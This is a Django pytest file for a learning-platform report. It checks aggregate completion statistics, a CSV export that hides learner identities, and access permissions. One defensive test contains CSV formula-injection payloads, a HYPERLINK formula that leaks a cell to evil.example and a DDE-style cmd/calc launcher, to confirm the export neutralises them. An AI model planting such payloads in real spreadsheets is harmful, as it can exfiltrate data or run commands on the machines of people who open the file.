"""The editors' report: aggregate numbers and CSV, no learner identities."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone

from cms.learning import progress
from cms.learning.models import Learner
from cms.learning.report import build_unit_report

from .factories import make_unit, step

pytestmark = pytest.mark.django_db


def quiz_of(unit):
    quiz_step = unit.step_list[2]
    return quiz_step, next(iter(quiz_step.quizzes.values()))


def pick(quiz_, correct):
    question = quiz_.questions[0]
    return {question.id: [next(o.id for o in question.options if o.correct is correct)]}


@pytest.fixture
def activity(unit):
    """Three learners: one completes everything, one stops at the quiz, one after step 1."""
    learners = [Learner.objects.create(token_hash=str(n) * 64) for n in range(3)]
    steps = unit.step_list
    quiz_step, quiz_ = quiz_of(unit)
    start = timezone.now()
    finisher, middle, early = learners
    for n, current in enumerate(steps):
        progress.record_step_view(finisher, unit, current, now=start + timedelta(seconds=60 * n))
    progress.record_unit_visit(finisher, unit, now=start + timedelta(seconds=300))
    progress.mark_step_done(finisher, unit, steps[1])
    progress.submit_quiz(finisher, unit, quiz_step, quiz_, pick(quiz_, False))
    progress.submit_quiz(finisher, unit, quiz_step, quiz_, pick(quiz_, True))
    for current in steps[:2]:
        progress.record_step_view(middle, unit, current)
    progress.submit_quiz(middle, unit, quiz_step, quiz_, pick(quiz_, True))
    progress.record_step_view(early, unit, steps[0])
    return learners


def test_report_counts_completion_drop_off_and_first_attempts(unit, activity):
    report = build_unit_report(unit)
    assert (report.started, report.completed) == (3, 1)
    assert report.completion_rate == pytest.approx(1 / 3)
    assert report.median_seconds == 300
    # Answering the quiz counts as reaching its step.
    assert [(r.reached, r.drop_off) for r in report.steps] == [(3, 1), (2, 0), (2, 1), (1, 0)]
    (question,) = report.questions
    # First attempts: the finisher was wrong first, the other learner right.
    assert (question.answered, question.correct_share) == (2, 0.5)


def test_admin_report_and_csv_show_numbers_only(client, unit, activity):
    admin = get_user_model().objects.create_superuser("redaktion", "r@example.org", "pw")
    client.force_login(admin)
    response = client.get(f"/admin/learning/reports/{unit.pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Wissen prüfen" in html
    for learner in activity:
        assert learner.token_hash not in html
    response = client.get(f"/admin/learning/reports/{unit.pk}/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "3" and rows[2][1] == "1"
    assert any(row[:1] == ["Kurzes Quiz"] and row[-1] == "50.0" for row in rows)
    assert client.get("/admin/learning/reports/").status_code == 200


def test_report_needs_edit_permission(client, unit):
    user = get_user_model().objects.create_user("gast", "g@example.org", "pw")
    client.force_login(user)
    response = client.get(f"/admin/learning/reports/{unit.pk}/")
    assert response.status_code in (302, 403)


def report_urls(unit):
    base = reverse("learning_unit_report", args=[unit.pk])
    return [reverse("learning_unit_reports"), base, base + "?format=csv"]


def test_admin_user_without_report_permission_gets_403_and_no_menu_item(
    client, django_user_model, unit, activity
):
    user = django_user_model.objects.create_user("redakteurin", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    for url in report_urls(unit):
        assert client.get(url).status_code == 403, url
    assert reverse("learning_unit_reports") not in client.get("/admin/").content.decode()


@pytest.mark.parametrize("group", ["Auswertung", "Editors", "Moderators"])
def test_report_groups_open_reports_and_see_menu_item(
    client, django_user_model, unit, activity, group
):
    user = django_user_model.objects.create_user("auswertung", password="pw")
    user.groups.add(Group.objects.get(name=group))
    client.force_login(user)
    for url in report_urls(unit):
        assert client.get(url).status_code == 200, url
    assert reverse("learning_unit_reports") in client.get("/admin/").content.decode()


def test_report_csv_neutralises_formulas_in_editor_text(client, admin_client, catalogue, levels):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    unit = make_unit(
        catalogue,
        [step("@SUM(1+1)*cmd|' /C calc'!A0"), step("-2+3"), step("\tTab"), step("Normal")],
        level_min=levels[0],
        title=formula,
        slug="formel",
    )
    learner = Learner.objects.create(token_hash="f" * 64)
    progress.record_step_view(learner, unit, unit.step_list[0])
    response = admin_client.get(reverse("learning_unit_report", args=[unit.pk]) + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Lerneinheit", "'" + formula] or rows[0][1] == "'" + formula
    titles = [row[1] for row in rows if row[:1] in (["1"], ["2"], ["3"], ["4"])]
    assert titles == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\tTab", "Normal"]
    assert rows[1][1] == "1"  # learners started: still a number


def add_units(catalogue, level, first, count):
    from cms.learning.models import LearningUnitPage

    from .factories import text

    for number in range(first, first + count):
        catalogue.add_child(
            instance=LearningUnitPage(
                title=f"Einheit {number:03d}",
                slug=f"einheit-{number}",
                teaser="…",
                objectives="<p>…</p>",
                level_min=level,
                level_max=level,
                steps=[step("Worum es geht", [text()])],
                locale=catalogue.locale,
            )
        )


def test_report_index_lists_many_units_in_constant_queries_and_pages(
    client, django_user_model, catalogue, levels, monkeypatch
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext
    from lxml import html as lxml_html

    from cms.learning import admin_views

    user = django_user_model.objects.create_user("auswertung", password="pw")
    user.groups.add(Group.objects.get(name="Auswertung"))
    client.force_login(user)
    url = reverse("learning_unit_reports")

    def listed(query=""):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url + query)
        assert response.status_code == 200
        doc = lxml_html.fromstring(response.content.decode())
        return (
            len(queries),
            [
                a.text_content()
                for a in doc.xpath("//main//ul/li/a[contains(@href, '/learning/reports/')]")
            ],
            doc,
        )

    add_units(catalogue, levels[0], 0, 3)
    listed()  # warm
    small, titles, _doc = listed()
    assert titles == ["Einheit 000", "Einheit 001", "Einheit 002"]
    add_units(catalogue, levels[0], 3, 22)
    large, titles, _doc = listed()
    assert large == small
    assert len(titles) == 25

    monkeypatch.setattr(admin_views, "UNITS_PER_PAGE", 10)
    _queries, titles, doc = listed("?p=3")
    assert titles == [f"Einheit {n:03d}" for n in range(20, 25)]
    assert doc.xpath('//nav[@class="pagination"]//a[@href="?p=2"]')
    link = doc.xpath("//main//ul/li/a[contains(@href, '/learning/reports/')]")[-1]
    report = client.get(link.get("href"))
    assert report.status_code == 200
    assert "Einheit 024" in report.content.decode()
    assert link.getnext().text_content() == "(de)"
